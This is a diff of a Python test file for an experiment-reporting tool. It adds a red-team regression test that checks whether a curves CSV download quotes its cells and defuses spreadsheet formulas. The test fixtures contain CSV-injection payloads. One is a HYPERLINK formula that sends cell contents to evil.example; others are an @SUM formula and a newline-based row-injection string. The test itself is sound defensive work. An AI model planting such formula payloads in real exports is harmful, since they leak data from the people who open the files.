@@ -1,8 +1,12 @@
-"""The experiment page's table of contents, its "back to top" links, and a named experiment's overrides line."""
+"""The experiment page's table of contents, its "back to top" links, a named experiment's overrides line,
+and its curves' CSV download (quoted, no spreadsheet formula)."""
 
 from __future__ import annotations
 
+import base64
+import csv
 import html
+import io
 import json
 import re
 from pathlib import Path
@@ -12,6 +16,8 @@ import yaml
 from tiny_runs import two_deliverables
 
 from gptlineage.cli import main
+from gptlineage.lineage.walk import Node
+from gptlineage.reporting.results import curve_csv
 from gptlineage.workflow_jobs import experiments, overridden
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -92,3 +98,25 @@ def test_the_workflow_passes_what_a_named_experiment_sets_otherwise_than_the_def
     changed = overridden(default, sweep["two"].config)
     assert "synth_chat.suite_prompts=70" in changed and f"sft_stage2.lr={json.dumps(lr * 2)}" in changed
     assert ("sft_stage2.start=final" in changed) == (config["sft_stage2"].get("start") != "final")
+
+
+def test_the_curves_csv_quotes_its_cells_and_holds_no_formula(tmp_path):
+    """A crafted metrics.json (red-team round 5, f12): a newline or comma stays in its cell, a text
+    cell that opens a formula gets a leading `'`, and numbers (-0.5, +1) stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    points = [
+        {"step": 1, "phase": "train", "loss": -0.5, "learning_rate": 0.001},
+        {"step": 2, "phase": formula, "loss": 1.0},
+        {"step": 3, "phase": "train\nInjected,row,here", "loss": "+1", "learning_rate": "@SUM(A1)"},
+        {"step": 4, "phase": "-2+3", "loss": "\t=1", "learning_rate": None},
+    ]
+    (tmp_path / "metrics.json").write_text(json.dumps({"points": points}), encoding="utf-8")
+    uri = curve_csv(Node(tmp_path, {"files": [{"path": "metrics.json"}]}, 0))
+    rows = list(csv.reader(io.StringIO(base64.b64decode(uri.split(",", 1)[1]).decode("utf-8"))))
+    assert rows == [
+        ["step", "phase", "loss", "learning_rate"],
+        ["1", "train", "-0.5", "0.001"],
+        ["2", "'" + formula, "1.0", ""],
+        ["3", "train\nInjected,row,here", "+1", "'@SUM(A1)"],
+        ["4", "'-2+3", "'\t=1", ""],
+    ]
